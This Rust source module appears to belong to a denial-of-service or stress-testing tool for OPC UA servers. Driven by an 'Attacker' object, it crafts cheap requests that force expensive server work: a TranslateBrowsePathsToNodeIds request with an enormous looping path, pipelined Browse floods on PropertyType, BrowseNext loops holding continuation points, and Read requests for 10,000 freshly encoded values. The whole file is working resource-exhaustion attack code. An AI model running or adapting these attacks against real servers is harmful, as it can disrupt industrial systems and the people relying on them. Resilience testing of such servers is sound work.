//! Requests that make the server walk its address space: they are short, and their answers take long.

use takt_ua::enumerations::{BrowseDirection, TimestampsToReturn};
use takt_ua::structures::*;
use takt_ua::{ByteString, NodeId, QualifiedName, ids};

use crate::channel::{Lost, PATIENCE, Session, Way};
use crate::request;
use crate::target::Attacker;

/// Encoded bytes of the repeated pair of elements of [`path`].
const PAIR: usize = 64;

/// Sends TranslateBrowsePathsToNodeIds with one path of about `bytes`: from DataTypeEncodingType (i=76) to all its instances
/// "Default Binary", back, and so on. At any time `pipelined` requests wait at the server.
pub(crate) fn translate(
    attacker: &mut Attacker<'_>,
    way: Way,
    bytes: usize,
    pipelined: usize,
) -> Result<(), Lost> {
    let mut session = Session::open(attacker, way)?;
    let request = TranslateBrowsePathsToNodeIdsRequest {
        request_header: session.header(),
        browse_paths: vec![BrowsePath {
            starting_node: NodeId::numeric(0, ids::DATA_TYPE_ENCODING_TYPE),
            relative_path: RelativePath {
                elements: path(attacker.count(bytes) / PAIR),
            },
        }],
    };
    session.repeat(attacker, &request::message(&request), pipelined)
}

/// Returns a path that goes there and back this many times.
fn path(pairs: usize) -> Vec<RelativePathElement> {
    let element = |is_inverse, name: &str| RelativePathElement {
        reference_type_id: NodeId::numeric(0, ids::HAS_TYPE_DEFINITION),
        is_inverse,
        include_subtypes: false,
        target_name: QualifiedName::new(0, name),
    };
    let pair = [
        element(true, "Default Binary"),
        element(false, "DataTypeEncodingType"),
    ];
    let length = pair.len() * pairs.max(1);
    pair.into_iter().cycle().take(length).collect()
}

pub(crate) fn browse_request(
    header: RequestHeader,
    node: u32,
    times: usize,
    at_most: u32,
) -> Vec<u8> {
    let description = BrowseDescription {
        node_id: NodeId::numeric(0, node),
        browse_direction: BrowseDirection::Inverse,
        result_mask: 63,
        ..BrowseDescription::default()
    };
    request::message(&BrowseRequest {
        request_header: header,
        requested_max_references_per_node: at_most,
        nodes_to_browse: vec![description; times],
        ..BrowseRequest::default()
    })
}

/// Browses PropertyType (i=68), the target of most Properties, 1000 times in each of 24 requests. The attacker does not read the
/// answers.
pub(crate) fn browse(attacker: &mut Attacker<'_>, way: Way) -> Result<(), Lost> {
    let mut session = Session::open(attacker, way)?;
    let times = attacker.count(1000);
    let message = browse_request(session.header(), ids::PROPERTY_TYPE, times, 0);
    for _ in 0..24 {
        let sent = session.channel.send(attacker, &message, PATIENCE)?;
        if !sent || !attacker.goes_on() {
            break;
        }
    }
    attacker.hold();
    Ok(())
}

/// Browses PropertyType (i=68) for references of a type that it does not have: the server examines the references of all
/// Properties, which is less than a slice, and the answer is empty. Hundreds of these requests are in one buffer.
pub(crate) fn browse_many(attacker: &mut Attacker<'_>) -> Result<(), Lost> {
    let mut session = Session::open(attacker, Way::Tcp)?;
    let description = BrowseDescription {
        node_id: NodeId::numeric(0, ids::PROPERTY_TYPE),
        browse_direction: BrowseDirection::Inverse,
        reference_type_id: NodeId::numeric(0, ids::ORGANIZES),
        ..BrowseDescription::default()
    };
    let message = request::message(&BrowseRequest {
        request_header: session.header(),
        nodes_to_browse: vec![description],
        ..BrowseRequest::default()
    });
    let pipelined = attacker.count(500);
    session.repeat(attacker, &message, pipelined)
}

/// Sends BrowseNext with one reference in each answer, over connections that wait for their answers.
pub(crate) fn browse_next(attacker: &mut Attacker<'_>, way: Way) -> Result<(), Lost> {
    let mut sessions = Vec::new();
    for _ in 0..attacker.count(8) {
        let mut session = Session::open(attacker, way)?;
        let points = first_points(attacker, &mut session)?;
        sessions.push((session, points));
    }
    while attacker.goes_on() {
        for (session, points) in &mut sessions {
            if points.is_empty() {
                *points = first_points(attacker, session)?;
                continue;
            }
            let request = BrowseNextRequest {
                request_header: session.header(),
                continuation_points: std::mem::take(points),
                ..BrowseNextRequest::default()
            };
            let next: BrowseNextResponse = session.channel.call(attacker, &request)?;
            *points = left(next.results);
        }
    }
    Ok(())
}

/// Browses with one reference for each node, and returns the ContinuationPoints.
fn first_points(
    attacker: &mut Attacker<'_>,
    session: &mut Session,
) -> Result<Vec<ByteString>, Lost> {
    let message = browse_request(session.header(), ids::PROPERTY_TYPE, 16, 1);
    session.channel.push(attacker, &message)?;
    let response = session.channel.receive(attacker, PATIENCE)?;
    let browsed: Result<BrowseResponse, String> = response
        .as_deref()
        .map_or_else(|| Err("none came".to_owned()), request::decode);
    browsed
        .map(|browsed| left(browsed.results))
        .map_err(|reason| Lost::Answer {
            expected: "BrowseResponse",
            reason,
        })
}

fn left(results: Vec<BrowseResult>) -> Vec<ByteString> {
    let points = results.into_iter().map(|result| result.continuation_point);
    points.filter(|point| !point.is_null()).collect()
}

/// Reads 10 000 Values, each a structure that the server encodes anew. Eight requests wait at any time.
pub(crate) fn read(attacker: &mut Attacker<'_>, way: Way) -> Result<(), Lost> {
    let mut session = Session::open(attacker, way)?;
    let value = ReadValueId {
        node_id: NodeId::numeric(0, ids::SERVER_SERVER_STATUS),
        attribute_id: 13,
        ..ReadValueId::default()
    };
    let request = ReadRequest {
        request_header: session.header(),
        timestamps_to_return: TimestampsToReturn::Both,
        nodes_to_read: vec![value; attacker.count(10_000)],
        ..ReadRequest::default()
    };
    session.repeat(attacker, &request::message(&request), 8)
}
